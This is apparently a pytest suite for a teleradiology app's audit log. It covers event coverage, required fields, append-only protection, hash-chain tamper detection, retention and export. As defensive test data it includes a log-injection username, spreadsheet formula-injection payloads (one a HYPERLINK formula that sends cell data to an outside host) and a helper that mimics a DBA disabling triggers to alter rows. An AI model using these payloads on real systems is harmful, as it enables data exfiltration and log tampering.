"""Audit log: coverage and fields of every event, tamper protection, retention, log injection, search and export."""

from __future__ import annotations

import io
import os
import re
import sqlite3
import subprocess
import threading
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pyotp
import pytest
import time_machine
from sqlalchemy import create_engine, func, select, text
from sqlalchemy.exc import DBAPIError
from sqlalchemy.pool import NullPool

from engine import audit, config, uow
from engine.actor import Actor
from engine.audit import EVENT_TYPES, AuditEvent
from engine.db import utcnow
from tests.conftest import BACKEND, TEST_SECRET
from tests.factories import Session, anon_csrf, as_user, institution, login, make_user, registration_form, role_id

ROOT = Path(__file__).resolve().parents[2]
ANONYMOUS_EVENTS = {"login_failure", "login_locked", "account_registered", "account_resubmitted"}


def events(app: Any, after: int = 0, **where: Any) -> list[AuditEvent]:
    with app.app_context():
        s = uow.session()
        stmt = select(AuditEvent).where(AuditEvent.id > after).filter_by(**where).order_by(AuditEvent.id)
        rows = list(s.execute(stmt).scalars())
        s.expunge_all()
        return rows


def cli(database_url: str, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = dict(
        os.environ,
        TELERAD_MODE="test",
        TELERAD_DATABASE_URL=database_url,
        TELERAD_SECRET_KEY=TEST_SECRET,
        TELERAD_INSTANCE_DIR=str(tmp_path / "cli-instance"),
    )
    return subprocess.run(
        [str(ROOT / ".venv/bin/telerad"), *args], env=env, capture_output=True, text=True, timeout=60, check=False
    )


def ev(event_type: str, who: str | None, obj: tuple[str, object] | None = None, outcome: str = "success") -> tuple:
    otype, oid = obj or (None, None)
    return (event_type, outcome, who, otype, None if oid is None else str(oid))


def user_obj(uid: int) -> tuple[str, int]:
    return ("user", uid)


class Tape:
    """Reads the audit events written since the last call and compares them with the expected ones."""

    def __init__(self, app: Any) -> None:
        self.app, self.last, self.seen = app, 0, []  # type: list[AuditEvent]

    def expect(self, *expected: tuple) -> None:
        rows = events(self.app, self.last)
        self.last = rows[-1].id if rows else self.last
        self.seen += rows
        assert [(e.event_type, e.outcome, e.username, e.object_type, e.object_id) for e in rows] == list(expected)

    def step(self, resp: Any, status: int, *expected: tuple) -> Any:
        body = resp.get_json(silent=True)
        assert resp.status_code == status, body
        self.expect(*expected)
        return body


class Logged(Session):
    """A Session whose login the test already drove by hand."""

    def __init__(self, client: Any, user: Any, csrf: str) -> None:
        self.client, self.user, self.csrf = client, user, csrf


def admin_login(u: Any) -> list[tuple]:
    return [ev("mfa_success", u.username, user_obj(u.id)), ev("login_success", u.username, user_obj(u.id))]


def run_scenario(app: Any) -> tuple[list[AuditEvent], dict[str, int]]:
    """Drive every audited action of the foundation once, checking the events each one writes (AUD-01)."""
    tape = Tape(app)
    tape.expect()  # a fresh database has no audit events
    central = institution(app, "CENTRAL").id
    sec, sysa, m01 = (as_user(app, r, institution_code=i) for r, i in ADMINS)
    tape.expect(*admin_login(sec.user), *admin_login(sysa.user), *admin_login(m01.user))
    S, Y, M = sec.user.username, sysa.user.username, m01.user.username  # noqa: N806
    doc, victim, aud_user = make_user(app, "report_l1"), make_user(app, "report_l1"), make_user(app, "audit_admin")
    ids = {u.username: u.id for u in (sec.user, sysa.user, m01.user, doc, aud_user)}
    D, V, A = doc.username, victim.username, aud_user.username  # noqa: N806

    # Login failure, success, logout.
    c = app.test_client()
    bad = {"username": D, "password": "Wrong#Pass123"}
    tape.step(c.post("/api/auth/login", json=bad), 401, ev("login_failure", D, outcome="failure"))
    doc_s = Logged(c, doc, login(c, doc))
    tape.expect(ev("login_success", D, user_obj(doc.id)))
    tape.step(doc_s.post("/api/auth/logout"), 204, ev("logout", D, user_obj(doc.id)))

    # Lockout after five failures, the locked attempt, the unlock.
    vc = app.test_client()
    for _ in range(5):
        assert vc.post("/api/auth/login", json={"username": V, "password": "Nope#12345"}).status_code == 401
    tape.expect(*[ev("login_failure", V, outcome="failure")] * 5, ev("login_locked", V, ("user", None), "failure"))
    r = vc.post("/api/auth/login", json={"username": V, "password": victim.password})
    tape.step(r, 423, ev("login_failure", V, outcome="failure"))
    tape.step(sec.post(f"/api/users/{victim.id}/unlock"), 204, ev("account_unlocked", S, user_obj(victim.id)))

    # Second factor: a wrong code, then the right one.
    ac = app.test_client()
    body = ac.post("/api/auth/login", json={"username": A, "password": aud_user.password}).get_json()
    assert body["state"] == "mfa_required"
    totp = pyotp.TOTP(aud_user.totp_secret)
    valid = {totp.at(datetime.now(UTC).timestamp() + k * 30) for k in (-1, 0, 1)}
    wrong = next(f"{n:06d}" for n in range(1000) if f"{n:06d}" not in valid)
    h = {"X-CSRF-Token": body["csrf_token"]}
    tape.step(ac.post("/api/auth/mfa", json={"code": wrong}, headers=h), 401, ev("mfa_failure", A, outcome="failure"))
    body = tape.step(ac.post("/api/auth/mfa", json={"code": totp.now()}, headers=h), 200, *admin_login(aud_user))
    aud = Logged(ac, aud_user, body["csrf_token"])

    # Own password change, then an administrator's reset.
    doc_s = Logged(c, doc, login(c, doc))
    tape.expect(ev("login_success", D, user_obj(doc.id)))
    r = doc_s.post("/api/auth/password", json={"old_password": doc.password, "new_password": "Nw#Strong2026x"})
    tape.step(r, 200, ev("password_changed", D, user_obj(doc.id)))
    tape.step(sec.post(f"/api/users/{doc.id}/reset-password"), 200, ev("password_reset", S, user_obj(doc.id)))

    # Registration, rejection, resubmission, ID-photo view, approval.
    anon = app.test_client()
    hdr = {"X-CSRF-Token": anon_csrf(anon)}
    r = anon.post("/api/registrations", data=registration_form("applicant_a", central), headers=hdr)
    applicant = r.get_json()["id"]
    tape.step(r, 201, ev("account_registered", "applicant_a", user_obj(applicant)))
    r = sec.post(f"/api/accounts/reviews/{applicant}/reject", json={"reason": "照片不清晰"})
    tape.step(r, 200, ev("account_rejected", S, user_obj(applicant)))
    form = {"username": "applicant_a", "password": "Reg#Strong2026", "title": "副主任医师"}
    r = anon.post("/api/registrations/resubmit", data=form, headers=hdr)
    tape.step(r, 200, ev("account_resubmitted", "applicant_a", user_obj(applicant)))
    photo = sec.get(f"/api/accounts/reviews/{applicant}").get_json()["photos"][0]
    tape.step(sec.get(photo["url"]), 200, ev("attachment_viewed", S, ("attachment", photo["id"])))
    r = sec.post(f"/api/accounts/reviews/{applicant}/approve", json={"role_ids": [role_id(app, "report_l1")]})
    tape.step(r, 200, ev("account_approved", S, user_obj(applicant)))

    # An administrator creates an account.
    r = sysa.post("/api/users", json={"username": "created_a", "full_name": "新建用户", "institution_id": central})
    tape.step(r, 201, ev("account_created", Y, user_obj(r.get_json()["id"])))

    # Role create, update, permissions, delete; a user's roles; disable and enable.
    rid = sec.post("/api/roles", json={"code": "tmp_role", "name": "临时角色", "permissions": []}).get_json()["id"]
    tape.expect(ev("role_created", S, ("role", rid)))
    tape.step(sec.patch(f"/api/roles/{rid}", json={"name": "临时二"}), 200, ev("role_updated", S, ("role", rid)))
    r = sec.put(f"/api/roles/{rid}/permissions", json={"permissions": ["menu.home"]})
    tape.step(r, 200, ev("role_permissions_changed", S, ("role", rid)))
    tape.step(sec.delete(f"/api/roles/{rid}"), 204, ev("role_deleted", S, ("role", rid)))
    r = sec.put(f"/api/users/{doc.id}/roles", json={"role_ids": [role_id(app, "report_l2")]})
    tape.step(r, 200, ev("account_roles_changed", S, user_obj(doc.id)))
    r = sysa.patch(f"/api/users/{doc.id}", json={"enabled": False})
    tape.step(r, 200, ev("account_disabled", Y, user_obj(doc.id)))
    r = sysa.patch(f"/api/users/{doc.id}", json={"enabled": True})
    tape.step(r, 200, ev("account_enabled", Y, user_obj(doc.id)))

    # A member hospital's administrator reaches for a central user: 404 plus a security alert (AC-02).
    tape.step(m01.get(f"/api/users/{doc.id}"), 404, ev("security_alert", M, user_obj(doc.id), "failure"))

    # The auditor searches, exports and verifies ("Audit Log Used").
    tape.step(aud.get("/api/audit/events"), 200, ev("audit_log_used", A))
    tape.step(aud.get("/api/audit/export"), 200, ev("audit_log_exported", A))
    assert tape.step(aud.get("/api/audit/verify"), 200, ev("audit_log_used", A))["ok"] is True

    # Idle timeout: the next request after 31 minutes answers 401 and the expiry is audited.
    late = as_user(app, "report_l1")
    ids[late.user.username] = late.user.id
    tape.expect(ev("login_success", late.user.username, user_obj(late.user.id)))
    with time_machine.travel(datetime.now(UTC) + timedelta(minutes=31), tick=False):
        r = late.get("/api/auth/me")
    tape.step(r, 401, ev("session_expired", late.user.username, user_obj(late.user.id)))
    tape.step(late.get("/api/auth/me"), 401)  # the cookie of a deleted session is just unknown
    return tape.seen, ids


ADMINS = (("sec_admin", "CENTRAL"), ("sys_admin", "CENTRAL"), ("sys_admin", "M01"))
EXPECTED_TYPES = {
    "login_success", "login_failure", "logout", "login_locked", "mfa_success", "mfa_failure", "password_changed",
    "password_reset", "account_registered", "account_rejected", "account_resubmitted", "account_approved",
    "account_created", "account_unlocked", "attachment_viewed", "role_created", "role_updated",
    "role_permissions_changed", "role_deleted", "account_roles_changed", "account_disabled", "account_enabled",
    "security_alert", "audit_log_used", "audit_log_exported", "session_expired",
}  # fmt: skip


def test_aud01_every_action_writes_exactly_its_events(app: Any) -> None:
    seen, _ = run_scenario(app)
    assert {e.event_type for e in seen} == EXPECTED_TYPES
    assert [e.id for e in events(app)] == [e.id for e in seen]  # nothing else was written


def test_aud02_every_event_carries_the_required_fields(app: Any) -> None:
    seen, ids = run_scenario(app)
    insts = {code: institution(app, code).id for code in ("CENTRAL", "M01")}
    for e in seen:
        where = f"{e.id} {e.event_type}"
        assert e.ts.tzinfo is UTC, where
        assert abs(e.ts - utcnow()) < timedelta(minutes=40), where
        assert e.event_type in EVENT_TYPES, where
        assert e.outcome in ("success", "failure"), where
        assert re.fullmatch(r"[0-9a-f]{32}", e.request_id or ""), where
        assert e.ip == "127.0.0.1", where
        assert e.user_agent, where
        assert e.patient_id is None, where  # no patient objects yet
        assert re.fullmatch(r"[0-9a-f]{64}", e.hash), where
        assert re.fullmatch(r"[0-9a-f]{64}", e.prev_hash), where
        if e.event_type in ANONYMOUS_EVENTS:
            assert e.user_id is None, where
            assert e.username, where
            continue
        assert e.user_id == ids[e.username], where
        assert set((e.roles or "").split(",")) <= {"sec_admin", "sys_admin", "audit_admin", "report_l1"}, where
        assert e.roles, where
        assert e.institution_code in insts, where
        assert e.institution_id == insts[e.institution_code], where
    assert len({e.request_id for e in seen if e.event_type == "login_failure"}) == 7  # one per request


def test_aud03_app_connection_cannot_update_or_delete(app: Any, client: Any) -> None:
    make_user(app, "report_l1", username="aud03_u")
    assert client.post("/api/auth/login", json={"username": "aud03_u", "password": "bad#Pass1234"}).status_code == 401
    statements = ["UPDATE audit_event SET reason = 'x'", "DELETE FROM audit_event"]
    if BACKEND == "postgresql":
        statements.append("TRUNCATE audit_event")
    with app.app_context():
        for sql in statements:
            with pytest.raises(DBAPIError, match="append-only|retention period"):
                uow.session().execute(text(sql))
            uow.session().rollback()
        assert uow.session().execute(select(func.count(AuditEvent.id))).scalar_one() == 1


def superuser_set_reason(database_url: str, event_id: int, reason: str) -> None:
    """What an attacker with DBA rights does: switch the guard off and edit a row in place."""
    if BACKEND == "postgresql":
        eng = create_engine(database_url, poolclass=NullPool)
        with eng.begin() as conn:
            conn.execute(text("ALTER TABLE audit_event DISABLE TRIGGER audit_event_guard"))
            conn.execute(text("UPDATE audit_event SET reason = :r WHERE id = :i"), {"r": reason, "i": event_id})
            conn.execute(text("ALTER TABLE audit_event ENABLE TRIGGER audit_event_guard"))
        eng.dispose()
    else:
        conn = sqlite3.connect(database_url.removeprefix("sqlite:///"))
        conn.execute("DROP TRIGGER audit_event_no_update")
        conn.execute("UPDATE audit_event SET reason = ? WHERE id = ?", (reason, event_id))
        conn.commit()
        conn.close()


def test_aud03_tampered_row_is_named_by_the_verifier(app: Any, database_url: str, tmp_path: Path) -> None:
    aud = as_user(app, "audit_admin")
    c = app.test_client()
    for i in range(4):
        c.post("/api/auth/login", json={"username": f"nobody{i}", "password": "bad#Pass1234"})
    ok = cli(database_url, tmp_path, "audit", "verify")
    assert ok.returncode == 0, ok.stderr
    assert "哈希链完整" in ok.stdout
    assert aud.get("/api/audit/verify").get_json() == {
        "ok": True,
        "checked": 7,
        "broken_at": None,
        "message": "已校验 7 条审计记录，哈希链完整",
    }  # fmt: skip  — 7: the CLI's verify wrote its own audit_log_used row (AUD-09)
    cli_use = events(app, event_type="audit_log_used")
    assert [(e.username, e.details["verify"]) for e in cli_use][0] == ("cli", True)
    target = events(app, username="nobody2")[0].id
    superuser_set_reason(database_url, target, "用户名或密码正确")
    bad = cli(database_url, tmp_path, "audit", "verify")
    assert bad.returncode == 1
    assert f"审计记录 {target} 的哈希链校验失败" in bad.stdout
    body = aud.get("/api/audit/verify").get_json()
    assert body["ok"] is False
    assert body["broken_at"] == target


def test_aud03_concurrent_logins_keep_one_unforked_chain(app: Any) -> None:
    users = [make_user(app, "report_l1") for _ in range(8)]
    barrier = threading.Barrier(8)
    errors: list[BaseException] = []

    def worker(i: int) -> None:
        try:
            c = app.test_client()
            barrier.wait(timeout=30)
            for n in range(10):
                pw = users[i].password if n % 2 == 0 else "Wrong#Pass99"
                r = c.post("/api/auth/login", json={"username": users[i].username, "password": pw})
                assert r.status_code in (200, 401), r.get_json()
        except BaseException as exc:  # noqa: BLE001 — reported below
            errors.append(exc)

    threads = [threading.Thread(target=worker, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert not errors
    rows = events(app)
    assert len([e for e in rows if e.event_type in ("login_success", "login_failure")]) == 80
    assert [r.prev_hash for r in rows[1:]] == [r.hash for r in rows[:-1]]  # one chain, no forks
    assert len({r.prev_hash for r in rows}) == len(rows)
    with app.app_context():
        result = audit.verify_chain(uow.session())
    assert result.ok
    assert result.checked == len(rows)


def aged_row(event_type: str, ts: datetime) -> dict[str, Any]:
    row: dict[str, Any] = dict.fromkeys(audit._HASHED_FIELDS)
    row.update(ts=ts, event_type=event_type, outcome="success", username="seed", reason="seeded")
    return row


def test_aud04_purge_keeps_179_days_and_removes_181(app: Any, database_url: str, tmp_path: Path) -> None:
    now = utcnow()
    with app.app_context(), uow.unit_of_work() as s:
        old_id = audit.append(s, aged_row("login_success", now - timedelta(days=181))).id
        kept_id = audit.append(s, aged_row("login_success", now - timedelta(days=179))).id
    young = make_user(app, "report_l1")
    login(app.test_client(), young)
    r = cli(database_url, tmp_path, "audit", "purge")
    assert r.returncode == 0, r.stderr
    assert "已清理 1 条审计记录" in r.stdout
    rows = events(app)
    assert [e.id for e in rows][:2] == [kept_id, kept_id + 1]
    assert old_id not in {e.id for e in rows}
    purged = rows[-1]
    assert purged.event_type == "audit_purged"
    assert purged.username == "cli"
    assert purged.details is not None
    assert purged.details["deleted"] == 1
    assert purged.details["retention_days"] == 180
    with app.app_context():
        assert audit.verify_chain(uow.session()).ok  # the oldest kept row anchors the chain
        with pytest.raises(DBAPIError, match="retention period"):
            uow.session().execute(text("DELETE FROM audit_event WHERE id = :i"), {"i": kept_id})
        uow.session().rollback()
    assert cli(database_url, tmp_path, "audit", "verify").returncode == 0


def test_aud04_purge_never_goes_below_180_days(app: Any) -> None:
    now = utcnow()
    with app.app_context(), uow.unit_of_work() as s:
        audit.append(s, aged_row("logout", now - timedelta(days=170)))
    with app.app_context(), uow.unit_of_work():
        assert audit.purge(Actor.system("test"), retention_days=30) == 0
    assert [e.event_type for e in events(app)] == ["logout", "audit_purged"]


def test_aud04_production_rejects_short_retention(tmp_path: Path) -> None:
    env = {"TELERAD_MODE": "production", "TELERAD_SECRET_KEY": TEST_SECRET, "TELERAD_INSTANCE_DIR": str(tmp_path)}
    with pytest.raises(config.ConfigError, match="AUDIT_RETENTION_DAYS"):
        config.load_settings({**env, "TELERAD_AUDIT_RETENTION_DAYS": "179"})
    assert config.load_settings({**env, "TELERAD_AUDIT_RETENTION_DAYS": "180"}).audit_retention_days == 180


def export_rows(session: Session, **query: str) -> list[tuple[Any, ...]]:
    r = session.get("/api/audit/export", query_string=query)
    assert r.status_code == 200
    assert r.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    ws = openpyxl.load_workbook(io.BytesIO(r.data)).active
    assert ws is not None
    for row in ws.iter_rows(min_row=1):
        assert all(cell.data_type == "s" for cell in row if cell.value is not None)
    return [tuple(c.value for c in row) for row in ws.iter_rows()]


def test_aud07_control_characters_are_encoded_in_store_and_export(app: Any, client: Any) -> None:
    evil = "bob\r\n2026-01-01 INFO login success user=admin\x1b[31m"
    assert client.post("/api/auth/login", json={"username": evil, "password": "x#Pass12345"}).status_code == 401
    stored = events(app, event_type="login_failure")[0].username
    assert stored == "bob\\x0d\\x0a2026-01-01 INFO login success user=admin\\x1b[31m"
    assert not re.search(r"[\x00-\x1f\x7f]", stored)
    aud = as_user(app, "audit_admin")
    found = aud.get("/api/audit/events", query_string={"outcome": "failure"}).get_json()["items"]
    assert [i["username"] for i in found] == [stored]
    assert [row[2] for row in export_rows(aud, outcome="failure")[1:]] == [stored]


def test_aud09_filters_paging_and_member_scope(app: Any) -> None:
    alice = make_user(app, "report_l1", username="alice_f")
    bob = make_user(app, "report_l1", institution_code="M01", username="bob_f")
    t0 = datetime.now(UTC)
    for who, bad, hours in ((alice, 1, 3), (bob, 2, 2)):
        with time_machine.travel(t0 - timedelta(hours=hours), tick=False):
            c = app.test_client()
            for _ in range(bad):
                c.post("/api/auth/login", json={"username": who.username, "password": "Wrong#Pass99"})
            login(c, who)
    aud = as_user(app, "audit_admin", username="aud_central")
    member = as_user(app, "audit_admin", institution_code="M01", username="aud_m01")

    def search(s: Session = aud, **q: Any) -> dict[str, Any]:
        r = s.get("/api/audit/events", query_string=q)
        assert r.status_code == 200, r.get_json()
        return r.get_json()

    def kinds(body: dict[str, Any]) -> list[tuple[str, str]]:
        return [(i["event_type"], i["username"]) for i in body["items"]]

    assert kinds(search(username="alice_f")) == [("login_success", "alice_f"), ("login_failure", "alice_f")]
    assert search(event_type="login_failure")["total"] == 3
    assert kinds(search(object_type="user", object_id=str(bob.id))) == [("login_success", "bob_f")]
    assert {i["username"] for i in search(outcome="failure")["items"]} == {"alice_f", "bob_f"}
    window = search(start=(t0 - timedelta(hours=2, minutes=1)).isoformat(), end=(t0 - timedelta(hours=1)).isoformat())
    assert window["total"] == 3
    assert {i["username"] for i in window["items"]} == {"bob_f"}
    p1 = search(event_type="login_failure", page_size=2, page=1)
    p2 = search(event_type="login_failure", page_size=2, page=2)
    assert (p1["total"], len(p1["items"]), len(p2["items"])) == (3, 2, 1)
    paged = [i["id"] for i in p1["items"] + p2["items"]]
    assert paged == sorted(paged, reverse=True)  # newest first, no row on two pages
    assert len(set(paged)) == 3
    assert search(page_size=10_000)["page_size"] == 100

    m01_id = institution(app, "M01").id
    with app.app_context():
        m01_total = uow.session().execute(select(func.count()).where(AuditEvent.institution_id == m01_id)).scalar()
    mine = search(member, page_size=100)
    assert mine["total"] == m01_total
    assert {i["institution_code"] for i in mine["items"]} == {"M01"}
    assert ("login_success", "bob_f") in kinds(mine)
    assert search(member, username="alice_f")["total"] == 0
    assert search(member, object_type="user", object_id=str(alice.id))["total"] == 0
    used = events(app, event_type="audit_log_used", username="aud_central")
    assert len(used) == 8
    assert all(e.details and "filters" in e.details for e in used)


def test_exp01_audit_export_is_text_only_and_audited(app: Any, client: Any) -> None:
    hostile = ['=HYPERLINK("http://x/?"&B1,"a")', "@SUM(1)", "+1", "-1", "=1+2", "\t=cmd"]
    for name in hostile:
        client.post("/api/auth/login", json={"username": name, "password": "x#Pass12345"})
    aud = as_user(app, "audit_admin")
    rows = export_rows(aud, event_type="login_failure")
    header = tuple("编号 时间 用户 角色 机构 IP 事件 对象类型 对象ID 结果 原因 请求ID 哈希".split())
    assert rows[0] == header
    assert [r[2] for r in rows[1:]] == [audit.neutralise(n) for n in hostile]
    assert {r[6] for r in rows[1:]} == {"登录失败"}
    assert {r[9] for r in rows[1:]} == {"失败"}
    exported = events(app, event_type="audit_log_exported")
    assert len(exported) == 1
    assert exported[0].username == aud.user.username
    assert exported[0].details["rows"] == len(hostile)
    assert aud.get("/api/audit/export", query_string={"outcome": "bogus"}).status_code == 400
